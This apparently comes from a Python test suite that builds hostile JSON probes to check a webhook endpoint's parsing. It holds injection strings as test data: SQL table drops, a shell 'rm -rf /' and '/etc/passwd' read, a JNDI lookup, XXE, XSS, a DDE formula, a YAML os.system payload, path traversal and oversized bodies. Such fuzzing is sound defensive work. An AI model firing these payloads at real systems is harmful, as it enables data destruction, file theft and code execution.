"""JSON that is hostile by its size, its depth, its numbers, its names or its texts."""

import json
from collections.abc import Callable, Iterator

from commerce_hooks.decoding import JsonValue
from support.probes.probe import (
    ACCEPTED,
    CANARY,
    TOO_BIG,
    UNREADABLE,
    Genuine,
    Make,
    Probe,
    adding,
    posting,
)

_TEXTS = {
    "SQL": "'; DROP TABLE orders; --",
    "a shell": "$(rm -rf /) `id` | cat /etc/passwd && echo",
    "a template": "{{7*7}} ${7*7} <%= 7*7 %> #{7*7} {% debug %}",
    "a lookup": "${jndi:ldap://host.example/a}",
    "a script": "<script>alert(1)</script><img src=x onerror=alert(1)>",
    "a formula": '=HYPERLINK("https://host.example","x")+cmd|\'/C calc\'!A0',
    "format strings": "%s%n%x {0.__class__.__mro__} %(asctime)s",
    "an LDAP filter": "*)(uid=*))(|(uid=*",
    "XML": "<!DOCTYPE a [<!ENTITY b SYSTEM 'file:///etc/passwd'>]><a>&b;</a>",
    "a path": "../../../../etc/passwd\x00.png",
    "a URL": "https://host.example@127.0.0.1:80#@example.com/?a=1&b=2",
    "a line of our log": f'x\n{{"level":"INFO","message":"callback","note":"{CANARY}"}}',
    "CRLF": f"x\r\nSet-Cookie: a=1\r\n\r\n{CANARY}",
    "ANSI escapes": f"\x1b[2J\x1b[31m{CANARY}\x1b]0;title\x07",
    "control characters": "".join(map(chr, [*range(1, 32), 127, *range(128, 160)])),
    "null": "a\x00b",
    "direction": "\u202e\u2066gpj.exe\u2069",
    "no characters": "\ufffe\uffff\ufdd0",
    "separators": "\u2028\u2029\u0085\u00a0\ufeff",
    "beyond the basic plane": "\U0001f4a5\U000e0041\U0010fffd",
    "many accents": "e" + "\u0301" * 200,
    "Hebrew and Portuguese": "שלום ״עולם״ ação coração",
    "JSON": '{"a":[1,{"b":null}]}',
    "JSON's own escapes": '\\u0022 \\" \\\\ \\/ \\n',
    "our placeholders": "*** * [removed]",
    "a number": "12e3",
    "a boolean": "true",
    "null's name": "null",
    "100,000 characters": "x" * 100_000,
}
_NUMBERS: dict[str, JsonValue] = {
    "the largest integer": 2**63 - 1,
    "the smallest integer": -(2**63),
    "minus zero": -0.0,
    "a small exponent": 5e-324,
    "a large exponent": 1.7976931348623157e308,
    "many digits": 0.1000000000000000055511151231257827,
    "nested": [[1, [2.5, [True, ["a"]]]]],
}
_NAMES: dict[str, JsonValue] = {
    name: {"note": CANARY, "event_id": "x", "id": 1}
    for name in (
        *("metadata", "detail", "detail-type", "source", "time", "account", "resources"),
        *("event_id", "callback_id", "dedup_key", "schema_version", "payload", "deployment"),
        *("__proto__", "constructor", "prototype", "__class__", "__dict__", "__init__"),
        *("model_config", "model_fields", "resource_id", "reported_topic", "occurred_at"),
        *("$ref", "$where", "@type", "#text", "a.b", "a[b]", "a[]", "/a/b", " ", "\x00"),
        *("\u202e", "a\nb", "\x1b[31m", "k" * 10_000),
    )
}
# Written out, because no encoder writes them.
_UNREADABLE = {
    "nan": b"nan",
    "NAN": b"NAN",
    "minus NaN": b"-NaN",
    "Infinity": b"Infinity",
    "plus infinity": b"+Infinity",
    "inf": b"inf",
    "an exponent of 99999": b"1e99999",
    "an exponent of 400 digits": b"1e" + b"9" * 400,
    "a decimal beyond floats": b"9" * 400 + b".0",
    "an integer below int64": b"-9223372036854775809",
    "an integer of 20 zeros": b"1" + b"0" * 20,
    "an integer of 100,000 digits": b"9" * 100_000,
    "hexadecimal": b"0x1F",
    "octal": b"0o17",
    "a leading zero": b"017",
    "a leading plus": b"+1",
    "a leading point": b".5",
    "a final point": b"5.",
    "underscores": b"1_000",
    "full-width digits": "\uff11\uff12".encode(),
    "a lone exponent": b"1e",
    "minus alone": b"-",
    "undefined": b"undefined",
    "True": b"True",
    "None": b"None",
    "single quotes": b"'a'",
    "a comment": b"1 /* a */",
    "a line comment": b"1 // a",
    "a final comma": b"[1,]",
    "a missing comma": b"[1 2]",
    "a bare name": b"{a:1}",
    "a lone high surrogate": b'"\\ud83d"',
    "surrogates turned round": b'"\\udca5\\ud83d"',
    "a surrogate in raw bytes": b'"\xed\xa0\x80"',
    "UTF-8 of five bytes": b'"\xf8\x88\x80\x80\x80"',
    "half a character": b'"\xd7"',
    "a raw tab": b'"a\tb"',
    "a raw line break": b'"a\nb"',
    "a bad escape": b'"\\x41"',
    "a short escape": b'"\\u12"',
    "a name twice, escaped once": b'{"a":1,"\\u0061":2}',
    "a list 2,000 deep": b"[" * 2_000 + b"]" * 2_000,
    "an object 2,000 deep": b'{"a":' * 2_000 + b"1" + b"}" * 2_000,
    "a list never closed": b"[" * 200_000,
}
_NOT_JSON: dict[str, bytes | Callable[[Genuine], bytes]] = {
    "an XML bomb": b'<!DOCTYPE a [<!ENTITY b "bbbbbbbb"><!ENTITY c "&b;&b;">]><a>&c;</a>',
    "YAML": b"order:\n  id: 1\n  !!python/object/apply:os.system ['id']\n",
    "two lines of JSON": b'{"id":1}\n{"id":2}\n',
    "a prefix": b')]}\',\n{"id":1}',
    "JSONP": b'callback({"id":1})',
    "a null behind": b'{"id":1}\x00',
    "a null before": b'\x00{"id":1}',
    "two marks": b'\xef\xbb\xbf\xef\xbb\xbf{"id":1}',
    "a mark inside": b'{\xef\xbb\xbf"id":1}',
    "PHP": b'a:1:{s:2:"id";i:1;}',
    "UTF-7": b"+AHs-+ACI-id+ACI-:1+AH0-",
    "a pickle": b"\x80\x04\x95\x0b\x00\x00\x00\x00\x00\x00\x00}\x94\x8c\x02id\x94K\x01s.",
    "MessagePack": b"\x81\xa2id\x01",
    "CBOR": b"\xa1bid\x01",
    "BSON": b"\x0d\x00\x00\x00\x10id\x00\x01\x00\x00\x00\x00",
    "a list of the body": lambda g: b"[" + g.body + b"]",
    "a text of the body": lambda g: json.dumps(g.body.decode()).encode(),
    "half of the body": lambda g: g.body[: len(g.body) // 2],
    "the body and a brace": lambda g: g.body + b"}",
    "the body twice": lambda g: g.body * 2,
    "blanks of a megabyte": b" " * 1_000_000,
    "nulls of a megabyte": b"\x00" * 1_000_000,
}


def body_probes() -> Iterator[Probe]:
    for name, text in _TEXTS.items():
        yield _with_payload("text", name, text)
    for name, number in _NUMBERS.items():
        yield _with_payload("number", name, number)
    for name, value in _NAMES.items():
        yield Probe("name of a field", _short(name), adding({name: value}), ACCEPTED)
        yield _with_payload("name of a field inside", _short(name), {name: value})
    for name, raw in _UNREADABLE.items():
        yield Probe("value that is no JSON", name, _with_raw(raw), UNREADABLE)
    for name, body in _NOT_JSON.items():
        yield Probe("body that is no JSON object", name, posting(body), UNREADABLE)
    yield from _large()


def _large() -> Iterator[Probe]:
    yield _with_payload("wide or deep", "20,000 names", {f"k{n}": n for n in range(20_000)})
    yield _with_payload("wide or deep", "500,000 numbers", [0] * 500_000)
    yield _with_payload("wide or deep", "300,000 lists", [[1]] * 300_000)
    yield _with_payload("wide or deep", "100,000 large exponents", [1e308] * 100_000)
    yield _with_payload("wide or deep", "200,000 digits and gaps", "4 " * 200_000)
    yield _with_payload("wide or deep", "20,000 almost cards", "4111 1111 1111 111 " * 20_000)
    yield _with_payload("wide or deep", "a text of a megabyte", "x" * 1_000_000)
    yield _with_payload("wide or deep", "a name of a megabyte", {"k" * 1_000_000: 1})
    yield _with_payload("wide or deep", "80 deep", json.loads("[" * 80 + "1" + "]" * 80))
    yield _with_payload("wide or deep", "Hebrew of a megabyte", "ש" * 500_000)
    too_big = adding({"probe": "x" * 1_500_000})
    yield Probe("wide or deep", "1.5 megabytes", too_big, TOO_BIG)
    yield Probe("wide or deep", "4 megabytes of brackets", posting(b"[" * 4_000_000), TOO_BIG)


def _with_payload(group: str, name: str, payload: JsonValue) -> Probe:
    return Probe(group, name, adding({"probe": payload}), ACCEPTED, payload=payload)


def _with_raw(value: bytes) -> Make:
    """The genuine body with one more member, as it is written here."""

    def body(genuine: Genuine) -> bytes:
        return genuine.body.rstrip()[:-1] + b',"probe":' + value + b"}"

    return posting(body)


def _short(name: str) -> str:
    return repr(name if len(name) < 50 else f"{name[:9]}... ({len(name):,} characters)")
